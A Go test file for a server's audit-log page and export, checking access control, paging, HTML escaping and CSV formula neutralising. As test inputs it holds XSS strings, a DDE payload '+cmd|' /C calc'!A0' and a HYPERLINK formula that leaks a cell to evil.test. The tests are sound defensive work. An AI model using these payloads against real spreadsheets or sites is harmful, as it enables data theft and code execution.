package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"html"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pmassist/pmassist"
	"github.com/pmassist/pmassist/ui"
)

const hyperlink = `=HYPERLINK("http://evil.test/?leak="&A1,"click me")`

// addAuditEvents stores n events in the tenant's log, one second apart and
// newer than everything before, with targets prefix-000, prefix-001, ….
func (e *env) addAuditEvents(tenantID, prefix string, n int) {
	e.t.Helper()
	ctx := pmassist.NewContextWithTenant(context.Background(), tenantID)
	start := e.clock.Now().Add(time.Minute)
	for i := range n {
		ev := &pmassist.AuditEvent{At: start.Add(time.Duration(i) * time.Second), Actor: "system", Action: "test.event",
			Target: fmt.Sprintf("%s-%03d", prefix, i), Details: map[string]string{"i": strconv.Itoa(i)}}
		if err := e.db.CreateAuditEvent(ctx, ev); err != nil {
			e.t.Fatal(err)
		}
	}
	// What the server records next is newer.
	e.clock.Add(time.Minute + time.Duration(n)*time.Second)
}

// allAudit reads the whole log through the API, newest first.
func allAudit(t *testing.T, c *client) []map[string]any {
	t.Helper()
	var out []map[string]any
	cursor := ""
	for {
		page := c.expect(200, "GET", "/api/v1/audit?limit=200&cursor="+cursor, nil)
		for _, ev := range page["events"].([]any) {
			out = append(out, ev.(map[string]any))
		}
		cursor = page["next_cursor"].(string)
		if cursor == "" {
			return out
		}
	}
}

func TestAuditPageAccess(t *testing.T) {
	e := newEnv(t)
	op, _ := e.setup()
	admin := e.invite(op, "admin@acme.test", "admin")
	member := e.invite(op, "member@acme.test", "member")

	op.get("/audit").want(t, 200).has(t, "<h1>Audit log</h1>", "Workspace created", "Member invited", "admin@acme.test",
		`aria-current="page"`)
	admin.get("/audit").want(t, 200).has(t, "Member joined", "member@acme.test")
	member.get("/audit").want(t, 403).lacks(t, "Member invited")
	if r := e.client().do("GET", "/audit", nil); r.StatusCode != 303 || r.Header.Get("Location") != "/login?next=%2Faudit" {
		t.Fatalf("anonymous: %d %q", r.StatusCode, r.Header.Get("Location"))
	}
	// The sidebar lists the audit log only for those who may read it.
	op.get("/").want(t, 200).has(t, `href="/audit"`)
	admin.get("/").want(t, 200).has(t, `href="/audit"`)
	member.get("/").want(t, 200).lacks(t, `href="/audit"`)
	// A malformed cursor is a bad request, not an empty page.
	op.get("/audit?cursor=nope").want(t, 400)
}

func TestAuditPageEscapesUntrustedText(t *testing.T) {
	const (
		evilTenant = `<script>alert(1)</script>`
		evilDetail = `"><img src=x onerror=alert(1)>`
	)
	e := newEnv(t)
	c := e.client()
	out := c.expect(201, "POST", "/api/v1/setup", map[string]string{"email": "op@acme.test", "password": pw, "name": "Op", "tenant_name": evilTenant})
	tenantID := out["tenant"].(map[string]any)["id"].(string)
	c.login("op@acme.test", pw)
	ctx := pmassist.NewContextWithTenant(context.Background(), tenantID)
	if err := e.db.CreateAuditEvent(ctx, &pmassist.AuditEvent{Actor: "system", Action: pmassist.AuditConnectionCreated,
		Target: "Slack " + evilTenant, Details: map[string]string{"workspace": evilDetail, evilTenant: "<b>x</b>"}}); err != nil {
		t.Fatal(err)
	}
	c.get("/audit").want(t, 200).
		has(t, "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "&lt;b&gt;x&lt;/b&gt;", "Connection added").
		lacks(t, "<script>alert", "<img src=x", "<b>x</b>")
}

var olderRe = regexp.MustCompile(`href="(/audit\?cursor=[^"]+)" rel="next">Older</a>`)

func TestAuditPagePagesWithTheCursor(t *testing.T) {
	e := newEnv(t)
	op, tenantID := e.setup()
	e.addAuditEvents(tenantID, "event", 60)

	first := op.get("/audit").want(t, 200)
	first.has(t, "event-059", "event-010").lacks(t, "event-009", "Workspace created", `href="/audit">Newest</a>`)
	m := olderRe.FindSubmatch(first.body)
	if m == nil {
		t.Fatalf("no Older link:\n%s", first.body)
	}
	second := op.get(html.UnescapeString(string(m[1]))).want(t, 200)
	second.has(t, "event-009", "event-000", "Workspace created", `href="/audit">Newest</a>`).lacks(t, "event-010", "event-059", ">Older</a>")
	// The newest page starts again from the top.
	if n := strings.Count(string(first.body), "<tr>") - 1; n != 50 {
		t.Fatalf("first page has %d rows, want 50", n)
	}
}

// parseCSV reads an export and fails on anything encoding/csv refuses.
func parseCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(body))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, body)
	}
	return rows
}

func TestAuditExportEnterprise(t *testing.T) {
	e := newEnv(t) // billing off: new tenants are enterprise
	op, tenantID := e.setup()
	admin := e.invite(op, "admin@acme.test", "admin")
	op.expect(201, "POST", "/api/v1/tokens", map[string]string{"name": hyperlink})
	ctx := pmassist.NewContextWithTenant(context.Background(), tenantID)
	if err := e.db.CreateAuditEvent(ctx, &pmassist.AuditEvent{At: e.clock.Now(), Actor: "+cmd|' /C calc'!A0", Action: pmassist.AuditSettingsChanged,
		Target: "-1+1", Details: map[string]string{"workspace": hyperlink, "note": "line one\nline, \"two\""}}); err != nil {
		t.Fatal(err)
	}
	e.addAuditEvents(tenantID, "bulk", 450) // more than two export pages
	before := allAudit(t, op)

	// The page offers the export.
	op.get("/audit").want(t, 200).has(t, `href="/api/v1/audit/export?format=csv"`, `href="/api/v1/audit/export?format=json"`).
		lacks(t, "Audit log export is part of the Enterprise plan")

	r := op.do("GET", "/api/v1/audit/export?format=csv", nil)
	if r.StatusCode != 200 || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
		r.Header.Get("Content-Disposition") != `attachment; filename="audit-acme-2026-11-02.csv"` || r.Header.Get("Cache-Control") != "no-store" {
		t.Fatalf("csv export: %d %v", r.StatusCode, r.Header)
	}
	rows := parseCSV(t, r.body)
	if strings.Join(rows[0], ",") != "at,actor,action,target,details" {
		t.Fatalf("header %v", rows[0])
	}
	rows = rows[1:]
	if len(rows) != len(before) {
		t.Fatalf("%d rows, the log has %d events", len(rows), len(before))
	}
	var prev time.Time
	for i, row := range rows {
		if len(row) != 5 {
			t.Fatalf("row %d: %d cells", i, len(row))
		}
		at, err := time.Parse(time.RFC3339, row[0])
		if err != nil || !strings.HasSuffix(row[0], "Z") {
			t.Fatalf("row %d: time %q", i, row[0])
		}
		if i > 0 && at.After(prev) {
			t.Fatalf("row %d is newer than the row before", i)
		}
		prev = at
		if want := before[i]; row[2] != want["action"] && row[2] != "'"+want["action"].(string) {
			t.Fatalf("row %d: action %q, the API says %v", i, row[2], want["action"])
		}
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d cell %d starts a formula: %q", i, j, cell)
			}
		}
	}
	if rows[0][3] != "bulk-449" || rows[0][4] != "i=449" || rows[len(rows)-1][2] != pmassist.AuditTenantCreated {
		t.Fatalf("first %v, last %v", rows[0], rows[len(rows)-1])
	}
	var hostile, token []string
	for _, row := range rows {
		switch row[2] {
		case pmassist.AuditSettingsChanged:
			hostile = row
		case pmassist.AuditTokenCreated:
			token = row
		}
	}
	if hostile == nil || hostile[1] != "'+cmd|' /C calc'!A0" || hostile[3] != "'-1+1" ||
		hostile[4] != "note=line one\nline, \"two\"; workspace="+hyperlink {
		t.Fatalf("hostile row %q", hostile)
	}
	if token == nil || token[3] != "'"+hyperlink || !strings.HasPrefix(token[4], "token_id=") {
		t.Fatalf("token row %q", token)
	}

	// The export is in the log itself, and only once.
	after := allAudit(t, op)
	if len(after) != len(before)+1 {
		t.Fatalf("%d events after the export, %d before", len(after), len(before))
	}
	ev := after[0]
	if ev["action"] != pmassist.AuditExported || ev["actor"] != "op@acme.test" || ev["target"] != "csv" ||
		ev["details"].(map[string]any)["format"] != "csv" {
		t.Fatalf("export event %v", ev)
	}

	// JSON, by an admin with a bearer token.
	r = admin.bearer("export").do("GET", "/api/v1/audit/export?format=json", nil)
	if r.StatusCode != 200 || r.Header.Get("Content-Type") != "application/json; charset=utf-8" ||
		r.Header.Get("Content-Disposition") != `attachment; filename="audit-acme-2026-11-02.json"` {
		t.Fatalf("json export: %d %v", r.StatusCode, r.Header)
	}
	var doc struct {
		Events []struct {
			At      time.Time         `json:"at"`
			Actor   string            `json:"actor"`
			Action  string            `json:"action"`
			Target  string            `json:"target"`
			Details map[string]string `json:"details"`
		} `json:"events"`
	}
	dec := json.NewDecoder(bytes.NewReader(r.body))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&doc); err != nil {
		t.Fatalf("export is not JSON: %v", err)
	}
	// The admin's token creation and the CSV export came after "before".
	if len(doc.Events) != len(before)+2 || doc.Events[0].Action != pmassist.AuditTokenCreated || doc.Events[1].Action != pmassist.AuditExported {
		t.Fatalf("%d events, first %+v", len(doc.Events), doc.Events[:2])
	}
	for i, ev := range doc.Events {
		if ev.Details == nil || ev.At.IsZero() || ev.At.Location() != time.UTC {
			t.Fatalf("event %d: %+v", i, ev)
		}
		if i > 0 && ev.At.After(doc.Events[i-1].At) {
			t.Fatalf("event %d is newer than the one before", i)
		}
	}
	for _, ev := range doc.Events {
		if ev.Action == pmassist.AuditSettingsChanged && (ev.Details["workspace"] != hyperlink || ev.Target != "-1+1") {
			t.Fatalf("JSON keeps values as they are: %+v", ev)
		}
	}
	if last := allAudit(t, op)[0]; last["action"] != pmassist.AuditExported || last["actor"] != "admin@acme.test" || last["target"] != "json" {
		t.Fatalf("json export event %v", last)
	}

	if r := op.do("GET", "/api/v1/audit/export?format=xml", nil); r.StatusCode != 400 || !strings.Contains(string(r.body), `"format"`) {
		t.Fatalf("bad format: %d %s", r.StatusCode, r.body)
	}
	// Without a format the export is CSV.
	if r := op.do("GET", "/api/v1/audit/export", nil); r.StatusCode != 200 || !strings.HasPrefix(string(r.body), "at,actor,action,target,details\n") {
		t.Fatalf("default format: %d %.80s", r.StatusCode, r.body)
	}
}

func TestAuditExportRefusals(t *testing.T) {
	e := newEnv(t, func(c *Config) { c.DefaultTier = pmassist.TierPro })
	op, _ := e.setup()
	member := e.invite(op, "member@acme.test", "member")
	n := len(allAudit(t, op))

	r := op.do("GET", "/api/v1/audit/export?format=csv", nil)
	if r.StatusCode != 402 || r.errCode(t) != "payment_required" || !strings.Contains(string(r.body), "Enterprise plan") {
		t.Fatalf("pro export: %d %s", r.StatusCode, r.body)
	}
	if r := member.do("GET", "/api/v1/audit/export?format=csv", nil); r.StatusCode != 403 || r.errCode(t) != "forbidden" {
		t.Fatalf("member export: %d %s", r.StatusCode, r.body)
	}
	if r := e.client().do("GET", "/api/v1/audit/export?format=csv", nil); r.StatusCode != 401 {
		t.Fatalf("anonymous export: %d %s", r.StatusCode, r.body)
	}
	if got := len(allAudit(t, op)); got != n {
		t.Fatalf("refused exports were recorded: %d events, %d before", got, n)
	}
	op.get("/audit").want(t, 200).has(t, "Audit log export is part of the Enterprise plan.", `<a href="/billing">See plans</a>`).
		lacks(t, "/api/v1/audit/export")
}

// TestEveryAuditActionHasWords reads the Audit* constants of audit.go and
// checks that the audit page says each in words.
func TestEveryAuditActionHasWords(t *testing.T) {
	f, err := parser.ParseFile(token.NewFileSet(), "../audit.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	ast.Inspect(f, func(node ast.Node) bool {
		vs, ok := node.(*ast.ValueSpec)
		if !ok {
			return true
		}
		for i, name := range vs.Names {
			lit, ok := vs.Values[i].(*ast.BasicLit)
			if !strings.HasPrefix(name.Name, "Audit") || !ok || lit.Kind != token.STRING {
				continue
			}
			code, _ := strconv.Unquote(lit.Value)
			n++
			if (ui.AuditRow{Action: code}).ActionText() == code {
				t.Errorf("%s (%q) has no words on the audit page", name.Name, code)
			}
		}
		return true
	})
	if n < 20 {
		t.Fatalf("only %d audit actions found", n)
	}
}
